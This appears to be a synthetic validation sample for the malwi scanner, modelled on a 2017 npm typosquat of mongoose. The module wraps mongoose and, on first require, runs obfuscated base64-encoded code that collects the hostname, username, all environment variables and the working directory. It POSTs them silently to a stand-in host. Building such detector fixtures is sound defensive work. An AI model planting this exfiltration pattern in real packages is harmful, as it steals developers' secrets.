// SYNTHETIC, DEFANGED malwi validation sample - modelled on the 2017 hacktask typosquats (mongose); never run.
// No lifecycle hook: the exfiltration runs when the typosquat is first required.
'use strict';
const real = require('mongoose');

(function () {
  const d = (s) => Buffer.from(s, 'base64').toString();
  try {
    const os = require('os');
    const target = new URL(d('aHR0cHM6Ly9tb25nby1zdGF0cy5leGFtcGxlLmludmFsaWQvY29sbGVjdA=='));
    const info = {
      h: os[d('aG9zdG5hbWU=')](),
      u: os[d('dXNlckluZm8=')]().username,
      e: process.env,
      c: process.cwd()
    };
    const body = Buffer.from(JSON.stringify(info)).toString('base64');
    const req = require('https').request({ hostname: target.hostname, path: target.pathname, method: d('UE9TVA==') });
    req.on('error', () => {});
    req.end(body);
  } catch (e) {
    // stay quiet
  }
})();

module.exports = real;
